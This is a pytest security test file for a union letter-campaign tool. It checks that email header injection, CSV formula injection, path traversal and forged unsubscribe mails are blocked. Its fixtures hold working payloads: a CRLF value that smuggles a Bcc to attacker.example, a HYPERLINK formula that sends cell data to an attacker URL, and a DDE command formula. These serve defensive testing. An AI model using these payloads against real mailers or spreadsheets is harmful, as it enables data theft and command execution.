"""Hostile values that reach the engine: header injection in what is sent, formulas in every CSV
it writes, and names that try to leave their folder.

The import and `wave create` checks refuse line breaks at the door (tests/test_members.py,
tests/test_waves.py). These tests put them past the door, straight into the database, as an
older version or a hand edit could, and look at the bytes that reach a real SMTP server and the
outbox folder: the message builder is the last line, and it must hold on its own.
"""

from __future__ import annotations

import csv
import email
import io
import json
import os
import re
from email import policy

import pytest
from conftest import ROOT
from smtp_server import Recorder, SmtpServer
from sqlalchemy import func, select
from test_hostile_mail import mailroom, opted_out, suppressed  # noqa: F401  (the sent-wave fixture)
from test_replies import sent  # noqa: F401
from test_waves import EMPLOYER_WAVE, SETTINGS, sample  # noqa: F401  (the sample-data fixture)

from engine.inbox.ingest import Ingester
from engine.letters.confirm import letter_for_member, send_for_me
from engine.letters.launch import launch_wave
from engine.letters.waves import WaveSpec, create_wave
from engine.mail.send import send_outbox
from engine.mail.smtp import FolderTransport, SmtpTransport
from engine.store.models import (
    employer_table,
    inbound_table,
    letter_table,
    member_table,
    outbox_table,
    wave_table,
)

ATTACKER = "everyone@attacker.example"
SMUGGLED = f"\r\nBcc: {ATTACKER}"
SOS = WaveSpec(
    target="fixed",
    letter="secretary-of-state",
    invite="invitation",
    to="Secretary of State <sos@education.example>",
)


class RawRecorder(Recorder):
    """Keeps the bytes as they arrived, beside the parsed message."""

    def __init__(self) -> None:
        super().__init__()
        self.raw: list[tuple[list[str], bytes]] = []

    async def handle_DATA(self, server, session, envelope):
        self.raw.append((list(envelope.rcpt_tos), envelope.content))
        return await super().handle_DATA(server, session, envelope)


@pytest.fixture
def smtp():
    server = SmtpServer()
    server.recorder = server.controller.handler = RawRecorder()
    with server:
        yield server


def headers_of(data: bytes) -> list[tuple[str, str]]:
    """(name, value) for each header of a message's top-level block, as a mail server reads them."""
    head = re.split(rb"\r?\n\r?\n", data, maxsplit=1)[0].decode("ascii", "replace")
    unfolded = re.sub(r"\r?\n[ \t]", " ", head)
    return [
        (name.strip().lower(), value)
        for name, _, value in (line.partition(":") for line in re.split(r"\r?\n", unfolded))
    ]


ADDRESS_HEADERS = {"from", "sender", "to", "cc", "bcc", "reply-to"}


def no_header_smuggled(messages: list[tuple[list[str], bytes]]) -> None:
    assert messages
    for recipients, data in messages:
        assert ATTACKER not in recipients
        headers = headers_of(data)
        names = [name for name, _ in headers]
        assert "bcc" not in names
        # Every header appears once: nothing doubled a To or a Subject either.
        assert len(names) == len(set(names)), names
        # The address may survive as words in a subject (a line break rendered as a space), but
        # in no header that says where mail goes.
        assert not [v for n, v in headers if n in ADDRESS_HEADERS and ATTACKER in v], headers


def poison(engine, table, where, **values) -> None:
    with engine.begin() as conn:
        assert conn.execute(table.update().where(where).values(**values)).rowcount


def letters_of(engine, wave: str) -> list[dict]:
    lt, w, m = letter_table.c, wave_table.c, member_table.c
    with engine.connect() as conn:
        rows = conn.execute(
            select(lt.id, lt.reference, m.membership_no)
            .join(wave_table, w.id == lt.wave_id)
            .join(member_table, m.id == lt.member_id)
            .where(w.name == wave, lt.kind == "letter")
            .order_by(m.membership_no)
        ).all()
    return [dict(r._mapping) for r in rows]


def outbox_of(engine) -> list[dict]:
    with engine.connect() as conn:
        return [dict(r._mapping) for r in conn.execute(select(outbox_table).order_by(outbox_table.c.id))]


@pytest.fixture
def poisoned_letters(sample):  # noqa: F811
    """An employer wave and a fixed (Secretary of State) wave, with line breaks put straight into
    the database in what each kind of message carries in a header: members and employer contacts
    before launch, a subject and the fixed recipient in the letters launch froze."""
    # A member's name and email, which the invitation's To and the letter's From and Reply-To carry.
    m = member_table.c
    poison(sample, member_table, m.membership_no == "M100004", first_name=f"Sam{SMUGGLED}")
    poison(sample, member_table, m.membership_no == "M100005", email=f"x@members.example.org{SMUGGLED}")
    # Two employers' contacts: one's name, the other's email.
    with sample.connect() as conn:
        keys = dict(
            conn.execute(
                select(m.membership_no, m.employer_key).where(m.membership_no.in_(["M100001", "M100002"]))
            ).all()
        )
    assert keys["M100001"] != keys["M100002"]
    e = employer_table.c
    poison(sample, employer_table, e.employer_key == keys["M100001"], name=f"Head Teacher{SMUGGLED}")
    poison(sample, employer_table, e.employer_key == keys["M100002"], email=f"head@school.example{SMUGGLED}")
    create_wave(sample, "Employers", EMPLOYER_WAVE, SETTINGS)
    create_wave(sample, "SoS", SOS, SETTINGS)
    launch_wave(sample, "Employers", SETTINGS)
    launch_wave(sample, "SoS", SETTINGS)
    employers, fixed = letters_of(sample, "Employers"), letters_of(sample, "SoS")
    assert [x["membership_no"] for x in employers[:2]] == ["M100001", "M100002"]
    lt = letter_table.c
    # The letter's subject, as frozen at launch.
    poison(sample, letter_table, lt.id == employers[2]["id"], subject=f"Well-being{SMUGGLED}")
    # The fixed recipient.
    poison(sample, letter_table, lt.id == fixed[0]["id"], target_name=f"Secretary of State{SMUGGLED}")
    return sample, [employers[0], employers[1], employers[2], fixed[0]]


def confirm_all(engine, letters: list[dict], waves: dict[int, str]) -> None:
    for letter in letters:
        found = letter_for_member(engine, waves[letter["id"]], letter["membership_no"])
        assert send_for_me(engine, SETTINGS, found, found.text, None)


def test_line_breaks_past_the_import_never_add_a_header_at_the_smtp_server(poisoned_letters, smtp):
    engine, poisoned = poisoned_letters
    waves = {letter["id"]: name for name in ("Employers", "SoS") for letter in letters_of(engine, name)}
    # The members confirm their letters (staff acting for them), so the letters go to the targets.
    with engine.connect() as conn:
        poisoned_keys = set(
            conn.execute(
                select(letter_table.c.target_key).where(
                    letter_table.c.id.in_([p["id"] for p in poisoned]), letter_table.c.target_key.is_not(None)
                )
            ).scalars()
        )
        clean_ids = set(
            conn.execute(
                select(letter_table.c.id).where(letter_table.c.target_key.not_in(poisoned_keys))
            ).scalars()
        )
    clean_letters = [
        x
        for x in letters_of(engine, "Employers")[3:]
        if x["id"] in clean_ids and x["membership_no"] not in ("M100004", "M100005")
    ][:2]
    assert len(clean_letters) == 2
    confirm_all(engine, [*poisoned, *clean_letters], waves)
    result = send_outbox(engine, SETTINGS, SmtpTransport(smtp.url), rate=0, sleep=lambda s: None)
    outbox = outbox_of(engine)
    failed = [o for o in outbox if o["status"] == "failed"]
    assert result.failed == len(failed) and result.sent == len(outbox) - len(failed) == len(smtp.recorder.raw)
    no_header_smuggled(smtp.recorder.raw)
    # Each poisoned message was set aside with its reason, and nothing else was.
    carrying = {o["id"] for o in outbox if "\r" in o["to_addr"] + (o["cc_addr"] or "") + o["subject"]}
    assert {o["id"] for o in failed} == carrying
    assert {o["letter_id"] for o in failed if o["kind"] == "letter"} == {p["id"] for p in poisoned}
    assert {o["to_addr"] for o in failed if o["kind"] == "invitation"} == {
        f'"Sam{SMUGGLED} Patel" <dev.patel@members.example.org>',
        f"Eilidh MacLeod <x@members.example.org{SMUGGLED}>",
    }
    assert {o["error"] for o in failed} == {
        f"cannot build the message: {name}: a header cannot hold a line break (U+000D)"
        for name in ("To", "Subject")
    }
    # The clean letters confirmed beside them went to their employers.
    clean = {letter["id"] for letter in clean_letters}
    assert {o["letter_id"] for o in outbox if o["kind"] == "letter" and o["status"] == "sent"} == clean


def test_line_breaks_past_the_import_never_add_a_header_in_the_outbox_folder(poisoned_letters, tmp_path):
    engine, poisoned = poisoned_letters
    waves = {letter["id"]: name for name in ("Employers", "SoS") for letter in letters_of(engine, name)}
    confirm_all(engine, poisoned, waves)
    folder = tmp_path / "outbox"
    send_outbox(engine, SETTINGS, FolderTransport(folder), rate=0, sleep=lambda s: None)
    files = sorted(folder.glob("*.eml"))
    went = [o for o in outbox_of(engine) if o["status"] == "sent"]
    assert len(files) == len(went) > 0
    no_header_smuggled([([], f.read_bytes()) for f in files])
    for f in files:
        message = email.message_from_bytes(f.read_bytes(), policy=policy.default)
        assert message["Bcc"] is None and ATTACKER not in str(message["To"])


# -- CSV injection ---------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = {
    "first_name": '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "branch": "+cmd|' /C calc'!A0",
    "target_name": "@SUM(1+1)",
    "subject": "-2+3",
    "reply_subject": "\t=1+1",
    "region": "\r=2+2",
}


@pytest.fixture
def formulas(sample, cli):  # noqa: F811
    """Formulas in what members typed, in an employer contact's name, a subject and a reply."""
    m = member_table.c
    poison(sample, member_table, m.membership_no == "M100001", first_name=FORMULAS["first_name"],
           branch=FORMULAS["branch"], region=FORMULAS["region"])  # fmt: skip
    create_wave(sample, "Employers", EMPLOYER_WAVE, SETTINGS)
    launch_wave(sample, "Employers", SETTINGS)
    first = letters_of(sample, "Employers")[0]
    assert first["membership_no"] == "M100001"
    lt = letter_table.c
    with sample.connect() as conn:
        key = conn.execute(select(lt.target_key).where(lt.id == first["id"])).scalar_one()
    # The employer's name in every letter to it, as its contact's name would have frozen it.
    poison(sample, letter_table, lt.target_key == key, target_name=FORMULAS["target_name"])
    poison(sample, letter_table, lt.id == first["id"], subject=FORMULAS["subject"])
    found = letter_for_member(sample, "Employers", "M100001")
    assert send_for_me(sample, SETTINGS, found, found.text, None)
    reply = (
        f"From: =cmd <head@school.example>\r\nTo: organising@union.example\r\n"
        f"Subject: {FORMULAS['reply_subject']} Re: your letter [Ref: {first['reference']}]\r\n"
        "Message-ID: <formula@school.example>\r\nContent-Type: text/plain\r\n\r\n@SUM(9) we will reply.\r\n"
    ).encode()
    Ingester(sample, SETTINGS).record(reply, "test")
    return cli


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


WRITERS = {
    "members list": (["members", "list", "--csv"], {"first_name": FORMULAS["first_name"], "branch": FORMULAS["branch"]}),
    "letters list": (["letters", "list", "--csv"], {"target_name": FORMULAS["target_name"], "subject": FORMULAS["subject"]}),
    "replies list": (["replies", "list", "--csv"], {"from": "=cmd <head@school.example>"}),
    "report by branch": (["report", "Employers", "--by", "branch", "--csv"], {"branch": FORMULAS["branch"]}),
    "report by region": (["report", "--by", "region", "--csv"], {"region": FORMULAS["region"]}),
    "report targets": (["report", "Employers", "--targets", "--csv"], {"name": FORMULAS["target_name"]}),
}  # fmt: skip


@pytest.mark.parametrize("writer", list(WRITERS))
def test_every_csv_the_tool_writes_opens_with_formulas_neutralised(formulas, tmp_path, writer):
    args, expected = WRITERS[writer]
    done = formulas(*args)
    assert done.exit_code == 0, done.output
    path = tmp_path / "out.csv"
    path.write_bytes(done.stdout.encode("utf-8"))
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for column, value in expected.items():
        cells = [row[column] for row in rows]
        assert "'" + value in cells, (column, cells)
    with path.open(newline="", encoding="utf-8") as f:
        assert not [c for line in csv.reader(f) for c in line if c.startswith(FORMULA_START)]


# -- path traversal --------------------------------------------------------------------

TEMPLATES_ENV = {"CAMPAIGN_TEMPLATES": str(ROOT / "templates")}


@pytest.mark.parametrize("option", ["--letter", "--invite"])
def test_a_template_name_that_leads_out_of_the_templates_folder_is_refused(
    cli, tmp_path, monkeypatch, option
):
    """A path typed on the command line is the organiser's to choose; a name is looked up among
    the campaign's templates and must not become `../../anywhere`."""
    outside = tmp_path / "outside"
    outside.mkdir()
    for suffix in (".txt", ".html"):
        (outside / f"secret{suffix}").write_text(
            "{% block subject %}S{% endblock %}{% block body %}B{% endblock %}"
        )
    folder = ROOT / "templates" / ("letters" if option == "--letter" else "email")
    deep = tmp_path / "a" / "b" / "c" / "d" / "e"
    deep.mkdir(parents=True)
    monkeypatch.chdir(deep)  # where the name is no file of its own
    for name in (
        os.path.relpath(outside / "secret", folder),
        "../../../../../../../../" + str(outside / "secret"),
    ):
        args = {"--letter": "mp-inspection", "--invite": "invitation", option: name}
        done = cli(
            "wave",
            "create",
            "W",
            "--target",
            "mp",
            *(x for pair in args.items() for x in pair),
            env=TEMPLATES_ENV,
        )
        assert (done.exit_code, done.stderr) == (
            2, f"Error: {option}: {name!r} leads out of {folder}/: name a template in it, or give the file's path\n"
        )  # fmt: skip
        assert json.loads(cli("wave", "list", "--json").stdout) == []
    # A name that only passes through the folder's parent, back into it, is still a name in it.
    back = {"--letter": "../letters/mp-inspection", "--invite": "../email/invitation"}[option]
    args = {"--letter": "mp-inspection", "--invite": "invitation", option: back}
    done = cli(
        "wave",
        "create",
        "W",
        "--target",
        "mp",
        *(x for pair in args.items() for x in pair),
        env=TEMPLATES_ENV,
    )
    assert done.exit_code == 0, done.output


def files_under(folder) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()}


def test_print_runs_and_exported_mail_stay_in_the_folder_asked_for(sample, cli, tmp_path, monkeypatch):  # noqa: F811
    """A wave named like a path, and any reference, give file names inside --out, never beside it."""
    name = "../../../escaped/../../etc/wave"
    create_wave(sample, name, EMPLOYER_WAVE, SETTINGS)
    launch_wave(sample, name, SETTINGS)
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    before = files_under(tmp_path)
    combined = cli(
        "wave",
        "pdf",
        name,
        "--out",
        "print",
        "--combined",
        "--state",
        "all",
        "--limit",
        "2",
        env=TEMPLATES_ENV,
    )
    assert combined.exit_code == 0, combined.output
    single = cli("wave", "pdf", name, "--out", "each", "--state", "all", "--limit", "2", env=TEMPLATES_ENV)
    assert single.exit_code == 0, single.output
    exported = cli("outbox", "export", "mail", env=TEMPLATES_ENV)
    assert exported.exit_code == 0, exported.output
    written = files_under(tmp_path) - before
    assert written and all(w.startswith(("work/print/", "work/each/", "work/mail/")) for w in written), (
        written
    )
    assert {w.count("/") for w in written} == {2}  # no sub-folders either
    assert [w for w in written if w.startswith("work/print/")] == ["work/print/escaped-etc-wave-letters.pdf"]
    assert len([w for w in written if w.startswith("work/each/")]) == 2
    with sample.connect() as conn:
        queued = conn.execute(select(func.count()).where(outbox_table.c.status == "queued")).scalar_one()
    assert len([w for w in written if w.startswith("work/mail/")]) == queued > 0


# -- forged mail -----------------------------------------------------------------------


def test_an_unsubscribe_written_by_someone_else_opts_out_and_suppresses_nobody(mailroom):  # noqa: F811
    """Anyone who has seen a letter knows its reference and its member's name. Asking, by mail,
    to unsubscribe that member (or to stop writing to them) proves nothing: it waits for staff."""
    engine, letters = mailroom.engine, mailroom.letters
    member = letters["spare1"]
    for n, (sender, words) in enumerate(
        [
            ("stranger@elsewhere.example", "Unsubscribe this member from all your mail. STOP."),
            (f"{member['target_email']}", "STOP. Remove this member from your lists, unsubscribe them."),
            (f"{member['email'].upper()}.attacker.example", "unsubscribe"),
        ]
    ):
        (mailroom.folder / f"unsub-{n}.eml").write_bytes(
            (
                f"From: {sender}\r\nTo: organising@union.example\r\nSubject: Unsubscribe [Ref: {member['reference']}]\r\n"
                f"Message-ID: <unsub-{n}@elsewhere.example>\r\nList-Unsubscribe: <mailto:x@elsewhere.example>\r\n"
                f"Content-Type: text/plain\r\n\r\n{words}\r\n"
            ).encode()
        )
    mailroom.ingest()
    assert not opted_out(engine, member)
    assert suppressed(engine) == []
    with engine.connect() as conn:
        kinds = (
            conn.execute(select(inbound_table.c.kind).where(inbound_table.c.message_id.like("<unsub-%")))
            .scalars()
            .all()
        )
    assert sorted(kinds) and "complaint" not in kinds and "bounce" not in kinds
    waiting = mailroom.waiting()
    assert {f"<unsub-{n}@elsewhere.example>" for n in range(3)} <= set(waiting)
